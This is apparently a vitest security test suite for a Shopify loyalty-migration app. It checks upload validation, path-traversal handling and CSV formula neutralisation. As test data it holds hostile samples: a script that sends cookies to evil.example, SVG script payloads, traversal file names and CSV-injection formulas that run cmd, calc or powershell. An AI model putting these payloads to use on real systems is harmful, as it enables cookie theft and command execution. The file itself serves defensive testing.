// Issue 9, part 4 (security): what a merchant's upload can do, and what a downloaded CSV can do.
//
// Uploads go through the real upload route (app.migrations.$id.upload-file, multipart, signed in with
// a Shopify session token): a file is judged by its content, not its name (images, archives,
// executables, PDFs and HTML named .csv are refused and stage nothing; a good CSV named .exe is refused
// too), the size limit holds (IMPORT_MAX_BYTES, here 256 KiB), and what is kept lives under UPLOAD_DIR —
// owner-only, named by its hash, never under public/ or build/ (a name like ../../public/x.csv cannot
// put it there), and the settings refuse an UPLOAD_DIR the web server would serve.
//
// CSV downloads (every CSV route: rejected rows, the report's exceptions and restored members) of a
// store whose export and review notes are full of spreadsheet formulas (OWASP "CSV injection":
// =HYPERLINK(…), +cmd|…, -1+1, @SUM(…), tab and CR prefixes): no cell a spreadsheet would run.
import fs from "node:fs";
import path from "node:path";
import crypto from "node:crypto";
import { parse } from "csv-parse/sync";
import { stringify } from "csv-stringify/sync";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";

const sink = await vi.hoisted(async () => {
  const { startSink, pointPlatformsAt } = await import("./support/sink");
  const started = await startSink();
  pointPlatformsAt(started);
  process.env.CARRYOVER_WORKER = "off";
  process.env.IMPORT_MAX_BYTES = String(256 * 1024);
  return started;
});

import prisma from "~/db.server";
import { coreEnv, InvalidEnvironmentError, parseCoreEnv } from "~/env.server";
import { SHOPIFY_API_VERSION } from "~/shopify.server";
import { ShopifyClient } from "~/platforms/shopify/shopify-client.server";
import { action as uploadAction } from "~/routes/app.migrations.$id.upload-file";
import { loader as rejectedLoader } from "~/routes/app.migrations.$id.rejected.$fileId";
import { loader as reportDownloadLoader } from "~/routes/app.migrations.$id.report.$download";
import { DOWNLOADS } from "~/services/admin/report-step.server";
import { applyMigration } from "~/services/apply/apply.server";
import { importLoyaltyFile } from "~/services/import/import.server";
import { storeOfflineInstall } from "~/services/offline-install.server";
import { reconcileMigration } from "~/services/reconcile/reconcile.server";
import { decideRecord } from "~/services/reconcile/review.server";
import { setRules } from "~/services/reconcile/rules.server";
import { syncPlatform } from "~/services/sync/sync.server";
import { demoLoyaltyExport } from "../../scripts/demo-loyalty-export";
import { startShopifyEmulator, type ShopifyEmulator } from "../emulators/shopify/server";
import { tempFile } from "../support/files";
import { callRoute } from "../support/remix";
import { uniqueShop } from "../support/webhooks";
import { shopifyAdmin, type AdminAuth } from "./support/admin-auth";
import { Tally } from "./support/record";

const uploads = new Tally({
  category: "security",
  check: "uploads through the upload route: disguised binaries, wrong extensions, over the size limit, hostile file names",
  invariants: [
    "a file is judged by its content: binary content (PNG, ZIP, ELF, PDF, NUL bytes) and markup are refused whatever its name says, and stage nothing",
    "only .csv, .txt, .tsv and .xlsx names are accepted, whatever the content",
    "a file over IMPORT_MAX_BYTES is refused while it streams in; nothing is kept, no temporary file is left",
    "a kept upload lives under UPLOAD_DIR/<shop>/<sha256>.<ext>, mode 0600 in a 0700 folder, never under public/ or build/, whatever its name",
    "an UPLOAD_DIR inside public/ or build/ is refused at start-up",
  ],
});
const exportsTally = new Tally({
  category: "security",
  check: "every CSV download (rejected rows, report exceptions, restored members) of a store whose export and review notes hold spreadsheet formulas",
  invariants: [
    "no cell starts with = + - @ tab or CR unless it is a plain number the app wrote",
    "the formulas are there, neutralised with a leading apostrophe (the check is not vacuous)",
    "each download is a CSV attachment with private, no-store caching",
  ],
});

let emulator: ShopifyEmulator;
let auth: AdminAuth;
let shopId = "";
let migrationId = "";

afterAll(async () => {
  uploads.flush();
  exportsTally.flush();
  await emulator?.close();
  await sink.close();
});

const CSV = "email,first_name,last_name,points\nupload.one@uploads.example,Uno,Upload,120\nupload.two@uploads.example,Dos,Upload,80\n";

async function upload(name: string, content: Buffer | string, migration = migrationId) {
  const form = new FormData();
  form.set("provider", "smile");
  form.set("file", new Blob([typeof content === "string" ? content : new Uint8Array(content)], { type: "text/csv" }), name);
  const res = await callRoute(uploadAction, auth(`/app/migrations/${migration}/upload-file`, { method: "POST", body: form }), { id: migration });
  return { status: res.status, body: (await res.json()) as { outcome: string; code?: string; summary?: { importFileId: string } } };
}

function listFiles(dir: string): string[] {
  if (!fs.existsSync(dir)) return [];
  return fs.readdirSync(dir, { recursive: true, withFileTypes: true }).filter((d) => d.isFile()).map((d) => path.join(d.parentPath, d.name));
}

describe("uploads", () => {
  beforeAll(async () => {
    const domain = uniqueShop("uploads");
    const shop = await storeOfflineInstall({ domain, accessToken: "shpat_uploads_test", scope: "read_customers" });
    shopId = shop.id;
    auth = shopifyAdmin(domain);
    migrationId = (await prisma.migration.create({ data: { shopId, name: "uploads", oldProvider: "smile" } })).id;
  });

  const png = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), crypto.randomBytes(2000)]);
  const zip = Buffer.concat([Buffer.from("PK\u0003\u0004", "latin1"), crypto.randomBytes(2000)]);
  const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00]), Buffer.alloc(64), crypto.randomBytes(2000)]);
  const pdf = Buffer.concat([Buffer.from("%PDF-1.7\n%\u00e2\u00e3\u00cf\u00d3\n1 0 obj\n", "latin1"), crypto.randomBytes(3000)]);
  const html = "<!doctype html>\n<html><head><script>fetch('https://evil.example/?c='+document.cookie)</script></head><body>points</body></html>\n";
  const svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>\n';
  const nul = `email,points\nnul@uploads.example,1${"\u0000".repeat(40)}\n`;

  const refusedByContent: Array<[string, string, Buffer | string]> = [
    ["a PNG image named .csv", "export.csv", png],
    ["a ZIP archive named .csv", "export.csv", zip],
    ["an ELF executable named .csv", "points.csv", elf],
    ["a PDF named .txt", "points.txt", pdf],
    ["a PNG named .xlsx", "points.xlsx", png],
    ["an HTML page with a script named .csv", "export.csv", html],
    ["an SVG with scripts named .csv", "export.csv", svg],
    ["a CSV with NUL bytes", "export.csv", nul],
  ];
  for (const [label, name, content] of refusedByContent) {
    it(`refuses ${label} and stages nothing`, async () => {
      await uploads.run(label, async () => {
        const before = await prisma.loyaltyRecord.count({ where: { shopId, status: "valid" } });
        const { status, body } = await upload(name, content);
        expect(status).toBe(200);
        expect(body.outcome, JSON.stringify(body)).toBe("file-rejected");
        expect(await prisma.loyaltyRecord.count({ where: { shopId, status: "valid" } })).toBe(before);
      });
    });
  }

  for (const name of ["export.exe", "export.html", "export.php", "export.svg", "export.csv.js", "export"]) {
    it(`refuses a good CSV named ${name}`, async () => {
      await uploads.run(`a CSV named ${name}`, async () => {
        const { body } = await upload(name, CSV + `# ${name}\n`);
        expect(body).toMatchObject({ outcome: "file-rejected", code: "UNSUPPORTED_EXTENSION" });
      });
    });
  }

  it("refuses a file over the size limit while it streams in, keeping nothing and leaving no temporary file", async () => {
    await uploads.run("over IMPORT_MAX_BYTES", async () => {
      expect(coreEnv().IMPORT_MAX_BYTES).toBe(256 * 1024);
      const big = "email,points\n" + Array.from({ length: 12_000 }, (_, i) => `big.${i}@uploads.example,${i}`).join("\n") + "\n";
      expect(Buffer.byteLength(big)).toBeGreaterThan(256 * 1024);
      const filesBefore = await prisma.importFile.count({ where: { shopId } });
      const kept = listFiles(path.resolve(coreEnv().UPLOAD_DIR, shopId)).length;
      const { body } = await upload("big.csv", big);
      expect(body).toMatchObject({ outcome: "too-large", maxBytes: 256 * 1024 });
      expect(await prisma.importFile.count({ where: { shopId } })).toBe(filesBefore);
      expect(listFiles(path.resolve(coreEnv().UPLOAD_DIR, shopId))).toHaveLength(kept);
      expect(listFiles(path.resolve(coreEnv().UPLOAD_DIR, "tmp"))).toEqual([]);
    });
  });

  for (const name of ["../../public/evil.csv", "..\\..\\public\\evil.csv", "/etc/passwd.csv", "public/favicon.csv", "%2e%2e%2fpublic%2fx.csv"]) {
    it(`keeps an upload named ${JSON.stringify(name)} under UPLOAD_DIR only, owner-only`, async () => {
      await uploads.run(`kept upload named ${name}`, async () => {
        const publicBefore = listFiles(path.resolve("public"));
        const { body } = await upload(name, `${CSV}# ${crypto.randomUUID()}\n`);
        expect(body.outcome, JSON.stringify(body)).toBe("imported");
        const file = await prisma.importFile.findUniqueOrThrow({ where: { id: body.summary!.importFileId } });
        const uploadDir = path.resolve(coreEnv().UPLOAD_DIR);
        expect(path.dirname(file.storagePath)).toBe(path.join(uploadDir, shopId));
        expect(path.basename(file.storagePath)).toBe(`${file.sha256}.csv`);
        for (const served of ["public", "build"]) expect(path.relative(path.resolve(served), file.storagePath).startsWith("..")).toBe(true);
        expect(fs.statSync(file.storagePath).mode & 0o777).toBe(0o600);
        expect(fs.statSync(path.dirname(file.storagePath)).mode & 0o777).toBe(0o700);
        expect(file.fileName).not.toMatch(/[/\\]/);
        expect(listFiles(path.resolve("public"))).toEqual(publicBefore);
      });
    });
  }

  it("refuses at start-up an UPLOAD_DIR the web server would serve", async () => {
    for (const dir of ["public", "public/uploads", "./public/../public/x", path.resolve("public/uploads"), "build", "build/client/uploads"]) {
      await uploads.run(`UPLOAD_DIR=${dir}`, () => {
        expect(() => parseCoreEnv({ UPLOAD_DIR: dir }), dir).toThrow(InvalidEnvironmentError);
      });
    }
    for (const dir of [".carryover/uploads", "/var/lib/carryover/uploads", "publications"]) {
      await uploads.run(`UPLOAD_DIR=${dir} (accepted)`, () => {
        expect(parseCoreEnv({ UPLOAD_DIR: dir }).UPLOAD_DIR).toBe(dir);
      });
    }
  });
});

// ----------------------------------------------------------------------------- CSV downloads

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your points")',
  "+1+cmd|' /C calc'!A0",
  "-1+1+cmd|' /C notepad'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=2+2",
  "=cmd|' /C powershell'!'A1'",
];

/** A formula start a spreadsheet acts on (OWASP), unless the whole cell is a number the app wrote. */
function dangerous(cell: string): boolean {
  return /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell);
}

describe("CSV downloads", () => {
  let exportAuth: AdminAuth;
  let exportMigration = "";
  let fileId = "";

  beforeAll(async () => {
    const domain = uniqueShop("csv-injection");
    const token = `shpat_csv_${crypto.randomBytes(8).toString("hex")}`;
    emulator = await startShopifyEmulator({ customers: 20, orders: 40, seed: 31, shopDomain: domain, accessToken: token, throttle: { maximumAvailable: 20_000, restoreRate: 10_000 } });
    const shop = await storeOfflineInstall({ domain, accessToken: token, scope: "read_customers,write_customers,read_orders" });
    exportAuth = shopifyAdmin(domain);
    const client = new ShopifyClient({ origin: emulator.url, apiVersion: SHOPIFY_API_VERSION, accessToken: token });
    await syncPlatform({ shop, client, resources: ["customers", "orders"], full: true, checkpoint: null, progress: async () => {}, mode: "paged" });

    // The store's own export, with formulas in the names, tiers and codes of matched customers, and rejected rows made of them.
    const rows = parse(demoLoyaltyExport({ customers: 20, orders: 40, seed: 31, shopDomain: domain })) as string[][];
    const [header, ...body] = rows;
    body.slice(0, HOSTILE.length).forEach((row, i) => {
      row[1] = HOSTILE[i]!;
      row[2] = HOSTILE[(i + 1) % HOSTILE.length]!;
      row[4] = HOSTILE[(i + 2) % HOSTILE.length]!;
      row[5] = `${HOSTILE[(i + 3) % HOSTILE.length]!}${i}`;
    });
    for (const [i, h] of HOSTILE.entries()) {
      body.push([h, h, h, "100", "Bronze", ""]); // a formula for an e-mail: rejected, written back as the file had it
      body.push([`formula.points.${i}@csv.example`, h, "Points", h, "Bronze", ""]); // a formula for points: rejected
    }
    const file = tempFile("export.csv", stringify([header!, ...body]));
    const migration = await prisma.migration.create({ data: { shopId: shop.id, name: '=HYPERLINK("http://evil.example","migration")', oldProvider: "smile", cutoverAt: new Date("2026-10-01T00:00:00Z") } });
    exportMigration = migration.id;
    const imported = await importLoyaltyFile({ shopId: shop.id, migrationId: migration.id, provider: "smile", fileName: "=HYPERLINK(1).csv", filePath: file });
    if (imported.outcome !== "imported") throw new Error(JSON.stringify(imported));
    fileId = imported.summary.importFileId;
    expect((await setRules({ shopId: shop.id, migrationId: migration.id })).outcome).toBe("saved");
    let reconciled = await reconcileMigration({ shopId: shop.id, migrationId: migration.id });
    if (reconciled.outcome !== "reconciled") throw new Error(JSON.stringify(reconciled));
    // A review rejection whose note is a formula (the exceptions CSV carries the merchant's reason).
    const valid = await prisma.recordMatch.findFirstOrThrow({ where: { reconciliationId: reconciled.reconciliationId, class: { in: ["pending", "conflict"] } } });
    expect((await decideRecord({ shopId: shop.id, migrationId: migration.id, recordId: valid.recordId, decision: "reject", note: HOSTILE[0]! })).outcome).toBe("recorded");
    reconciled = await reconcileMigration({ shopId: shop.id, migrationId: migration.id });
    if (reconciled.outcome !== "reconciled") throw new Error(JSON.stringify(reconciled));
    const applied = await applyMigration({ shopId: shop.id, migrationId: migration.id, reconciliationId: reconciled.reconciliationId, pilot: null, client, checkpoint: null, progress: async () => {} });
    expect(applied.outcome).toBe("applied");
  }, 120_000);

  const downloads = () => [
    { name: "rejected rows", loader: rejectedLoader, url: `/app/migrations/${exportMigration}/rejected/${fileId}`, params: { id: exportMigration, fileId } },
    ...DOWNLOADS.map((d) => ({ name: `report ${d}`, loader: reportDownloadLoader, url: `/app/migrations/${exportMigration}/report/${d}`, params: { id: exportMigration, download: d } })),
    ...DOWNLOADS.map((d) => ({ name: `report ${d} (pt-BR)`, loader: reportDownloadLoader, url: `/app/migrations/${exportMigration}/report/${d}?locale=pt-BR`, params: { id: exportMigration, download: d } })),
  ];

  it("no cell of any CSV download is a formula, and the formulas are there, neutralised", async () => {
    const all: string[] = [];
    for (const d of downloads()) {
      await exportsTally.run(d.name, async () => {
        const res = await callRoute(d.loader, exportAuth(d.url), d.params);
        expect(res.status, d.name).toBe(200);
        expect(res.headers.get("content-type")).toMatch(/^text\/csv/);
        expect(res.headers.get("content-disposition")).toMatch(/^attachment; filename="[\w.-]+"$/);
        expect(res.headers.get("cache-control")).toBe("private, no-store");
        const text = await res.text();
        const cells = (parse(text, { bom: true, relax_column_count: true }) as string[][]).flat();
        expect(cells.length, d.name).toBeGreaterThan(10);
        expect(cells.filter(dangerous), d.name).toEqual([]);
        all.push(...cells);
      });
    }
    // Not vacuous: the hostile cells reached the downloads, each neutralised by an apostrophe.
    for (const h of HOSTILE) expect(all.some((c) => c.startsWith(`'${h}`)), JSON.stringify(h)).toBe(true);
  });
});
